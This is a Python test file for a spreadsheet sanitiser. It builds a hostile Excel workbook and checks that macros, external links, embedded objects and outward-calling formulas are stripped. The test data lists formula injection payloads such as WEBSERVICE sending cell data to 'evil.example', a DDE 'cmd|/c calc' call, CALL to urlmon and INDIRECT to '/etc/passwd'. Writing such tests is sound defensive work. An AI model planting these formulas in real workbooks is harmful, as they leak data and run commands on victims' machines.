"""A returned copy of a hostile workbook: nothing in it runs or calls out, and what only calculates stays."""

import io
import re
import zipfile
from types import SimpleNamespace

import openpyxl
import pytest
from openpyxl.chart import BarChart, Reference
from openpyxl.formatting.rule import FormulaRule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula
from openpyxl.worksheet.hyperlink import Hyperlink

from checks import active_content, returned_copies

PARTS = {
    "xl/vbaProject.bin": b"macro",
    "xl/externalLinks/externalLink1.xml": b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    "xl/connections.xml": b'<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
    "xl/embeddings/oleObject1.bin": b"ole",
    "xl/activeX/activeX1.xml": b"<ax/>",
    "customUI/customUI14.xml": b"<customUI/>",
}
OUTWARD = (
    "=[1]走访!A1",
    "='[1]走 访'!A1+1",
    '=WEBSERVICE("http://evil.example/?"&B2)',
    "=_xlfn.WEBSERVICE(B2)",
    '=HYPERLINK("http://evil.example","看")',
    "=cmd|'/c calc'!A0",
    '=IMPORTXML("http://evil.example","//a")',
    '=IF(1,RTD("x",,"y"),0)',
    '=CALL("urlmon","x","J",0)',
    '=EXEC("calc")',
    "=SUM(1,INDIRECT(\"'file:///etc/passwd'#$a.A1\"))",
    "=我的宏()",
    '=IMAGE("http://evil.example/a.png")',
    '=DDE("soffice","x","y")',
    '=SQL.REQUEST("x")',
    "='file:///etc/x.ods'#$甲.A1",
    "=取数",
)
INWARD = (
    '=IF(B2="[1]http://a|b!","是","否")',
    "=SUM(B2:B9)",
    "='走 访'!B2*2",
    "=_xlfn.XLOOKUP(B2,B2:B9,B2:B9)",
    '=TEXT(TODAY(),"yyyy-mm-dd")',
)


def hostile() -> bytes:
    """A workbook with every way out that is known, and formulas that only calculate."""
    book, kept = openpyxl.Workbook(), io.BytesIO()
    sheet = book.active
    book.create_sheet("走 访")
    book.defined_names["取数"] = DefinedName("取数", attr_text="[1]走访!$A$1")
    book.defined_names["本表"] = DefinedName("本表", attr_text="'走 访'!$A$1")
    for row, formula in enumerate((*OUTWARD, *INWARD), 2):
        sheet.cell(row, 1, formula)
    sheet["C2"] = ArrayFormula("C2:C3", "=WEBSERVICE(B2:B3)")
    sheet["D2"], sheet["D3"] = "网页", "本表"
    sheet["D2"].hyperlink, sheet["D3"].hyperlink = "http://evil.example/link", Hyperlink("D3", location="'走 访'!A1")
    for formula in ("=[1]走访!$A:$A", "=$B$2:$B$9"):
        rule = DataValidation(type="list", formula1=formula)
        rule.add("E2")
        sheet.add_data_validation(rule)
        sheet.conditional_formatting.add("F2", FormulaRule(formula=[formula[1:]]))
    chart = BarChart()
    chart.add_data(Reference(sheet, range_string="'[1]走访'!$A$1:$A$3"))
    sheet.add_chart(chart, "H2")
    book.save(kept)
    return with_parts(kept.getvalue())


def with_parts(content: bytes) -> bytes:
    """The workbook as a macro workbook with PARTS in it, named where Excel looks for them."""
    kept = io.BytesIO()
    kinds = {"xl/vbaProject.bin": "vbaProject", "xl/externalLinks/externalLink1.xml": "externalLink", "xl/connections.xml": "connections"}
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    links = "".join(f'<Relationship Id="x{at}" Type="{base}/{kind}" Target="/{part}"/>' for at, (part, kind) in enumerate(kinds.items()))
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(kept, "w") as new:
        for name in old.namelist():
            body = old.read(name).decode()
            if name.endswith("workbook.xml.rels"):
                body = body.replace("</Relationships>", links + "</Relationships>")
            if name == "[Content_Types].xml":
                body = body.replace("spreadsheetml.sheet.main+xml", "sheet.macroEnabled.main+xml").replace(
                    "openxmlformats-officedocument.sheet", "ms-excel.sheet"
                )
            if name == "xl/worksheets/sheet1.xml":  # what Excel calculated last, beside the first formula
                body = re.sub(r"(<c r=\"A2\"[^>]*>)<f>(.*?)</f><v></v>", r"\1<f>\2</f><v>42</v>", body)
            new.writestr(name, body)
        for name, body in PARTS.items():
            new.writestr(name, body)
    return kept.getvalue()


@pytest.fixture(scope="module")
def copy():
    """The returned copy of the hostile workbook."""
    answers = [[{"sealed": b"", "file": "柳溪村走访.xlsm"}], [], []]
    build = SimpleNamespace(rows=lambda *_asked: answers.pop(0))
    return returned_copies.copy(build, SimpleNamespace(unseal=lambda *_sealed: hostile()), "0" * 16)


def test_no_macro_object_connection_or_link_to_elsewhere_is_left_in_the_package(copy):
    package = zipfile.ZipFile(io.BytesIO(copy))
    parts = {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}
    assert [name for name in parts if re.search(r"vba|external|embed|activeX|custom|connection|ctrl|pivot", name)] == []
    for sign in ("evil.example", "External", "macroEnabled", "vbaProject", "[1]走访", "WEBSERVICE", "cmd|", "/etc/", "取数</", "EXEC"):
        assert [name for name, body in parts.items() if sign in body] == [], sign


def test_formulas_that_calculate_within_the_workbook_stay_and_others_give_way_to_their_last_value(copy):
    book = openpyxl.load_workbook(io.BytesIO(copy))
    sheet = book["Sheet"]
    assert [sheet.cell(row, 1).value for row in range(2, 2 + len(OUTWARD))] == [42] + [None] * (len(OUTWARD) - 1)
    assert [sheet.cell(row, 1).value for row in range(2 + len(OUTWARD), 2 + len(OUTWARD) + len(INWARD))] == list(INWARD)
    assert (sheet["C2"].value, sheet["D2"].value, sheet["D2"].hyperlink, sheet["D3"].hyperlink.location) == (
        None,
        "网页",
        None,
        "'走 访'!A1",
    )
    assert list(book.defined_names) == ["本表"]
    assert [rule.formula1 for rule in sheet.data_validations.dataValidation] == ["=$B$2:$B$9"]
    assert [rule.formula for area in sheet.conditional_formatting for rule in area.rules] == [["$B$2:$B$9"]]
    assert sheet._charts == []


def test_the_list_says_what_was_left_out(copy):
    told = openpyxl.load_workbook(io.BytesIO(copy)).worksheets[0]["A2"].value
    assert all(word in told for word in ("没有放", "宏", "引用外部文件或网络", "嵌入的对象"))


def test_of_an_ordinary_workbook_nothing_is_said_to_be_left_out():
    book, kept = openpyxl.Workbook(), io.BytesIO()
    book.active.append(["姓名", "=1+2"])
    book.save(kept)
    assert active_content.remove_active_content(book, kept.getvalue()) == []


def test_a_text_that_looks_like_a_formula_stays_a_text_when_it_was_a_formulas_last_value():
    book, kept = openpyxl.Workbook(), io.BytesIO()
    book.active["A1"] = "=[1]甲!A1"
    book.save(kept)
    with zipfile.ZipFile(kept) as old, zipfile.ZipFile(last := io.BytesIO(), "w") as new:
        for name in old.namelist():
            body = old.read(name).decode()
            new.writestr(name, re.sub(r'<c r="A1"(.*?)><f>.*?</c>', r'<c r="A1"\1 t="str"><f>[1]甲!A1</f><v>=1+1</v></c>', body))
    active_content.remove_active_content(book, last.getvalue())
    assert (book.active["A1"].value, book.active["A1"].data_type) == ("=1+1", "s")


def test_macros_of_an_old_workbook_are_told_of_and_not_copied():
    assert active_content.remove_active_content(openpyxl.Workbook(), b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT_CUR".encode("utf-16-le")) == [
        active_content.MACROS
    ]
